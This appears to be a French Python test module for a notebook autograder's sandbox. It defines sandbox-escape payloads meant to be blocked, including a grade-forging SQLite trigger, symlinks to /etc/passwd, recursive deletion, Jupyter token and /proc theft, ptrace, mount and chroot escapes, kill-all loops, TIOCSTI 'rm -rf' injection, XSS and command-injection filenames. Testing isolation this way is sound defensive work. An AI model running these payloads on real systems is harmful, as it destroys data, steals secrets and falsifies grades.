"""Sortir de l'enclos : les fichiers de la classe, les noms suivis, le réseau, la machine, la copie suivante."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import nbformat

from tests.attaques.attaque import ATTEINT, NOM, RIEN, Attaque, au_debut, dans_taux, fausse

DECLENCHEUR = """import glob, sqlite3
for chemin in ['@CLASSE@/gradebook.db', *glob.glob('../../../*.db')]:
    try:
        base = sqlite3.connect(chemin)
        base.execute('CREATE TRIGGER juste AFTER UPDATE ON grade BEGIN UPDATE grade SET auto_score = 2; END')
        base.commit()
    except sqlite3.Error:
        pass"""
LIENS = """import os
for lieu in ('.', '.chatmairie', '..', '../..'):
    for nom in ('90_court.ipynb', 'correction.partiel', 'correction.json', 'secret.txt', 'voisin.csv', '90_court.html'):
        for cible in ('@CLASSE@/gradebook.db', '@CLASSE@/secret.txt', '/etc/passwd'):
            try:
                os.makedirs(lieu, exist_ok=True)
                chemin = os.path.join(lieu, nom)
                if os.path.lexists(chemin):
                    os.remove(chemin)
                os.symlink(cible, chemin)
            except OSError:
                pass"""
DROITS = """import os
for chemin in ('@CLASSE@/secret.txt', '@CLASSE@/gradebook.db', '@CLASSE@', '../../../gradebook.db'):
    for geste in (lambda c: os.chmod(c, 0o666), lambda c: os.chmod(c, 0), lambda c: os.utime(c, (1, 1)),
                  lambda c: os.chown(c, 65534, 65534), os.remove, lambda c: os.rename(c, c + '.vole'),
                  lambda c: os.setxattr(c, 'user.a', b'b'), lambda c: os.truncate(c, 0),
                  lambda c: os.link(c, 'lien'), lambda c: os.listdir(c), lambda c: open(c).read(), os.stat):
        try:
            geste(chemin)
            print(ATTEINT, chemin)
        except OSError:
            pass"""
EFFACER = """import shutil
for lieu in ('@CLASSE@', '@CLASSE@/..', '../../..', '../..', '..', '/tmp'):
    shutil.rmtree(lieu, True)"""
RESEAU = """import socket, urllib.request
def essai(famille, genre, adresse):
    try:
        prise = socket.socket(famille, genre)
        prise.settimeout(1)
        prise.connect(adresse)
        prise.send(b'GET / HTTP/1.0\\r\\n\\r\\n')
        if genre == socket.SOCK_STREAM:
            print(ATTEINT, adresse)
    except OSError:
        pass
for hote in ('127.0.0.1', '0.0.0.0', '@IP@'):
    essai(socket.AF_INET, socket.SOCK_STREAM, (hote, @PORT@))
    essai(socket.AF_INET, socket.SOCK_DGRAM, (hote, @UDP@))
essai(socket.AF_INET6, socket.SOCK_STREAM, ('::1', @PORT@))
essai(socket.AF_UNIX, socket.SOCK_STREAM, '@PRISE@')
essai(socket.AF_UNIX, socket.SOCK_STREAM, '\\0@PRISE@')
for nom in ('/var/run/docker.sock', '/run/dbus/system_bus_socket', '/run/systemd/private', '/tmp/.X11-unix/X0'):
    essai(socket.AF_UNIX, socket.SOCK_STREAM, nom)"""
JUPYTER = """import glob, json, os, urllib.request
for motif in ('@CLASSE@/../jupyter/jpserver-*.json', '~/.local/share/jupyter/runtime/*.json', '/root/.local/**/*.json',
              '/home/*/.local/share/jupyter/runtime/*.json', '/run/user/*/jupyter/*.json'):
    for chemin in glob.glob(os.path.expanduser(motif)):
        print(ATTEINT, json.load(open(chemin)))
try:
    urllib.request.urlopen('http://127.0.0.1:@PORT@/api/terminals?token=jeton', timeout=1)
    print(ATTEINT)
except OSError:
    pass"""
ENVIRONNEMENT = """import os
suspects = [n for n in os.environ if 'SECRET' in n or 'TOKEN' in n or 'KEY' in n or n.startswith('NBGRADER')]
for pid in [p for p in os.listdir('/proc') if p.isdigit()]:
    for quoi in ('environ', 'cmdline'):
        try:
            lu = open(f'/proc/{pid}/{quoi}', 'rb').read()
            suspects += [pid] if b'phrase de la classe' in lu or b'nbgrader' in lu or b'gradebook' in lu else []
        except OSError:
            pass
if suspects:
    print(ATTEINT, suspects)"""
LAISSER = """import ctypes, os
lieux = ('/dev/shm', '/tmp', '/dev', '/', '/dev/pts', '/tmp/mpl', '/var/tmp', '/run', '/dev/mqueue', os.path.expanduser('~'), '..')
for lieu in lieux:
    try:
        if any('trace-du-premier' in nom for nom in os.listdir(lieu)):
            print(ATTEINT, lieu)
    except OSError:
        pass
for lieu in lieux:
    try:
        open(os.path.join(lieu, 'trace-du-premier'), 'w').write('x')
    except OSError:
        pass
systeme, keyctl, add_key = ctypes.CDLL(None), 250, 248
if os.uname().machine == 'x86_64':
    for trousseau in (-2, -3, -4, -5):
        if systeme.syscall(keyctl, 10, trousseau, b'user', b'trace-du-premier', 0) > 0:
            print(ATTEINT, 'trousseau', trousseau)
    for trousseau in (-2, -3, -4, -5):
        systeme.syscall(add_key, b'user', b'trace-du-premier', b'abc', ctypes.c_size_t(3), trousseau)
import builtins, sys
if hasattr(builtins, 'TRACE') or getattr(sys, 'trace_du_premier', None):
    print(ATTEINT, 'python')
builtins.TRACE = sys.trace_du_premier = 1
import pandas, numpy
if hasattr(pandas, 'TRACE'):
    print(ATTEINT, 'pandas')
pandas.TRACE = 1
pandas.Series.mean = lambda s, *a, **k: 0.0"""
VOISINS = """import ctypes, os, signal
systeme = ctypes.CDLL(None, use_errno=True)
moi = {os.getpid(), int(os.readlink('/proc/self'))}
for pid in sorted(int(p) for p in os.listdir('/proc') if p.isdigit()):
    for quoi in ('mem', 'environ', 'maps', 'fd/0', 'fd/1', 'fd/2', 'root/tmp', 'cwd', 'oom_score_adj'):
        chemin = f'/proc/{pid}/{quoi}'
        les_miens = open(f'/proc/{pid}/status').read().split('NSpid:')[1].split('\\n')[0].split()
        if len(les_miens) > 1:
            continue
        try:
            os.listdir(chemin) if quoi in ('root/tmp', 'cwd') else open(chemin, 'r+b' if quoi != 'maps' else 'rb').read(1)
            print(ATTEINT, chemin)
        except OSError:
            pass
    if systeme.ptrace(16, pid, 0, 0) == 0 and pid not in moi:
        print('ptrace', pid)"""
ESPACES = """import ctypes, os
systeme = ctypes.CDLL(None, use_errno=True)
for drapeaux in (0x10000000, 0x00020000, 0x20000000, 0x40000000):
    systeme.unshare(drapeaux)
for source, ou, genre in ((b'x', b'/tmp', b'tmpfs'), (b'proc', b'/proc', b'proc'), (b'/', b'/tmp/travail', b'none'),
                          (b'sysfs', b'/tmp/travail', b'sysfs'), (b'x', b'/tmp/travail', b'overlay')):
    if systeme.mount(source, ou, genre, 4096 if genre == b'none' else 0, b'') == 0:
        print(ATTEINT, ou, genre)
for ou in (b'/tmp', b'/dev/shm', b'/usr', b'/proc'):
    if systeme.umount2(ou, 2) == 0:
        print(ATTEINT, ou)
try:
    os.chroot('/proc/1/root'); print(ATTEINT, 'chroot')
except OSError:
    pass
try:
    os.setuid(0); print(ATTEINT, 'setuid') if open('/proc/self/status').read().count('CapBnd:\\t0000000000000000') > 9 else None
except OSError:
    pass"""
MEMFD = """import os, subprocess, sys
d = os.memfd_create('programme')
os.write(d, '#!/bin/sh\\ncat "@CLASSE@/secret.txt" && echo CIBLE ATT""EINTE; kill -9 -1; true\\n'.encode())
os.set_inheritable(d, True)
if os.fork() == 0:
    os.setsid()
    os.execve(f'/proc/self/fd/{d}', ['x'], {}) if os.path.exists(f'/proc/self/fd/{d}') else os._exit(0)"""
PRISES = """import array, gc, os, socket
for prise in [o for o in gc.get_objects() if isinstance(o, socket.socket)]:
    for _ in range(300):
        try:
            prise.setblocking(False)
            if prise.getsockname() == '' and prise.fileno() > 5:
                socket.send_fds(prise, [b'{"quoi": "ouvrir", "pid": 1}'], [0, 1, 2] * 20)
        except OSError:
            break"""
CHAINE = """import os, time
if os.fork() == 0:
    os.setsid()
    while True:
        if os.fork():
            os._exit(0)
        os.setsid()
        try:
            open('@CLASSE@/temoin-chaine', 'w').write('vivant')
            open('/tmp/temoin-chaine', 'a').write('.')
        except OSError:
            pass
        time.sleep(0.02)"""
DEMON = """import subprocess, sys
subprocess.Popen([sys.executable, '-c',
    "import time\\nwhile True:\\n  time.sleep(1)\\n  'temoin-demon'\\n  open('@CLASSE@/temoin-demon', 'w')"],
    start_new_session=True)"""
TUER = """import os, signal
for pid in [os.getppid(), 1, *range(3, 400)]:
    try:
        if pid != os.getpid():
            os.kill(pid, signal.SIGKILL)
    except OSError:
        pass"""
HABITUDE = """import os
for lieu in ('~/.ipython/profile_default/startup', '@CLASSE@/..', '..', '../..', '/usr/lib/python3', '~/.jupyter'):
    try:
        lieu = os.path.expanduser(lieu)
        os.makedirs(lieu, exist_ok=True)
        open(os.path.join(lieu, '00-piege.py'), 'w').write('raise SystemExit')
    except OSError:
        pass"""
PAQUET = """import chatmairie, os, pandas, sys
for module in (chatmairie, pandas, os):
    for suffixe in ('', '.bak'):
        try:
            open(module.__file__ + suffixe, 'a').write('# piège')
            print(ATTEINT, module.__file__)
        except OSError:
            pass"""
TERMINAL = """import fcntl, os, termios
for lieu in ('/dev/tty', '/dev/console', '/dev/pts/0', '/proc/1/fd/0'):
    try:
        d = os.open(lieu, os.O_RDWR)
        for c in b'rm -rf x\\n':
            fcntl.ioctl(d, termios.TIOCSTI, bytes([c]))
        print(ATTEINT, lieu)
    except OSError:
        pass"""
SCRIPT = """from IPython.display import HTML, Javascript, display
display(HTML('<script>document.title="piege"</script><img src=x onerror=alert(1)>'))
display(Javascript('alert("piege")'))
display({'application/vnd.jupyter.widget-view+json': {'model_id': 'x'}, 'text/html': '<iframe srcdoc="piege">'}, raw=True)
display({'image/svg+xml': '<svg onload=alert(1)>', 'text/latex': '\\\\href{javascript:alert(1)}{x}', 'text/markdown':
         '<script>1</script>', 'application/javascript': 'alert(1)'}, raw=True)
class X(Exception): pass
X.__name__ = '<script>piege</script>\\x1b[2J'
raise X('<script>piege</script>')"""


def _tete(source: str) -> str:
    return f"ATTEINT = {ATTEINT!r}\n{source}"


def _liens_rendus(dossier: Path, carnet: Any) -> None:
    nbformat.write(carnet, dossier / NOM)
    classe = dossier.parents[2]
    for nom, cible in (("secret.txt", "secret.txt"), ("notes.db", "gradebook.db"), ("copies", "submitted")):
        (dossier / nom).symlink_to(classe / cible)
    (dossier / ".chatmairie").symlink_to(classe)


def _noms_hostiles(dossier: Path, carnet: Any) -> None:
    nbformat.write(carnet, dossier / NOM)
    for nom in (
        "\x1b[2Jpiege\n.csv",
        "$(touch piege)`x`;.csv",
        "-rf",
        "a" * 200,
        "é\u202e.csv",
        "<script>.csv",
        "%s%n.py",
    ):
        (dossier / nom).write_text("1", encoding="utf-8")
    Path(os.fsdecode(os.fsencode(dossier) + b"/\xff\xfe.csv")).write_text("1", encoding="utf-8")
    os.mkfifo(dossier / "tube.csv")


def _carnet_en_lien(dossier: Path, _carnet: Any) -> None:
    (dossier / NOM).symlink_to(dossier.parents[3] / "course" / "90_court" / NOM)


def _date(dossier: Path, carnet: Any) -> None:
    nbformat.write(carnet, dossier / NOM)
    (dossier / "timestamp.txt").write_text("demain matin", encoding="utf-8")


def _etat_forge(carnet: Any) -> None:
    carnet.metadata["chatmairie"] = {"etat": "en_panne", "lu": "", "lisible": False, "remarques": ["x"], "ordre": [1]}
    for une in carnet.cells:
        une.metadata["chatmairie"] = {"origine": "cours"}


def _ecran_efface(carnet: Any) -> None:
    au_debut("#\x1b[2J\x1b]0;piege\x07 tout va bien\nimport os; os._exit(1)")(carnet)


SORTIES: dict[str, Attaque] = {
    "declencheur": Attaque(
        fausse(DECLENCHEUR), points=RIEN, vite=True, nu="tous les élèves suivants ont le maximum",
        dit="un déclencheur posé dans le carnet de notes",
    ),
    "liens": Attaque(
        au_debut(LIENS), vite=True,
        dit="carnet, marque et retour remplacés par des liens vers le carnet de notes ou le secret, pendant l'exécution",
    ),
    "liens-rendus": Attaque(
        deposer=_liens_rendus, etat="remise_en_ordre", dit="des liens vers le secret et le carnet de notes, rendus avec la copie"
    ),
    "carnet-en-lien": Attaque(
        deposer=_carnet_en_lien, points=RIEN, etat="lien", nu="suivi : tous les points", dit="un lien vers l'énoncé à la place du carnet"
    ),
    "droits": Attaque(au_debut(_tete(DROITS)), vite=True, dit="droits, dates, effacement du secret et du carnet de notes"),
    "efface-tout": Attaque(au_debut(EFFACER), etat=None, nu="des dossiers du cours effacés", dit="effacer tout ce qui peut l'être"),
    "habitude": Attaque(au_debut(HABITUDE), dit="un fichier de démarrage laissé pour les corrections suivantes"),
    "paquet-reecrit": Attaque(au_debut(_tete(PAQUET)), dit="le paquet du cours et ses bibliothèques réécrits sur le disque"),
    "reseau": Attaque(
        au_debut(_tete(RESEAU)), vite=True, nu="les prises marchent",
        dit="le réseau, TCP et UDP, et les prises locales, nommées ou abstraites",
    ),
    "jupyter": Attaque(au_debut(_tete(JUPYTER)), dit="le jeton du JupyterLab du formateur, pour y ouvrir un terminal"),
    "environnement": Attaque(
        au_debut(_tete(ENVIRONNEMENT)), nu="tout se lit : variables, commandes du formateur",
        dit="l'environnement et la ligne de commande du formateur",
    ),
    "laisser-1": Attaque(au_debut(_tete(LAISSER)), points=None, dit="laisser une trace pour la copie d'après (mémoire partagée, /tmp, trousseau, Python)"),
    "laisser-2": Attaque(au_debut(_tete(LAISSER)), points=None, dit="trouver celle de la copie d'avant"),
    "voisins": Attaque(
        au_debut(_tete(VOISINS)), dit="la mémoire et les fichiers des autres processus de l'enclos (`/proc`, `ptrace`)"
    ),
    "espaces": Attaque(au_debut(_tete(ESPACES)), points=None, etat=None, dit="de nouveaux espaces du noyau, des montages, un `chroot`"),
    "memfd": Attaque(au_debut(MEMFD), points=None, etat=None, dit="un programme lancé depuis la mémoire"),
    "prises": Attaque(au_debut(PRISES), points=None, etat=None, dit="des descripteurs envoyés au correcteur, par centaines"),
    "chaine": Attaque(
        au_debut(CHAINE), vite=True, dit="une chaîne qui se relance sans fin et écrit encore après la copie"
    ),
    "demon": Attaque(au_debut(DEMON), nu="vivant 20 s après la fin", dit="un programme détaché"),
    "tuer": Attaque(
        au_debut(TUER), points=None, etat=None, nu="nbgrader lui-même est tué, la classe est perdue",
        dit="tuer le processus parent, et tous les autres",
    ),
    "terminal": Attaque(au_debut(_tete(TERMINAL)), dit="écrire dans le terminal du formateur"),
    "script": Attaque(
        au_debut(SCRIPT), nu="les scripts sont dans le retour, ouvert par l'élève et par le formateur",
        dit="HTML, JavaScript, widgets et SVG dans les résultats et les noms d'erreur",
    ),
    "ecran-efface": Attaque(_ecran_efface, etat="plantee", dit="des séquences de terminal dans ce que le tableau cite"),
    "noms-hostiles": Attaque(deposer=_noms_hostiles, etat="remise_en_ordre", dit="des noms de fichiers hostiles, un tube"),
    "date-absurde": Attaque(
        deposer=_date, etat="remise_en_ordre", nu="élève sans note", dit="une date de remise illisible"
    ),
    "etat-forge": Attaque(_etat_forge, dit="un état « panne de correction » écrit d'avance dans le carnet"),
    "disque-dans-la-fonction": Attaque(
        dans_taux(f"{LIENS}\nreturn 'faux'"), points={"donnees.taux": 0.0, "donnees.colonnes": 2.0, "donnees.surveiller": 1.0},
        dit="des liens posés par la fonction jugée",
    ),
}  # fmt: skip
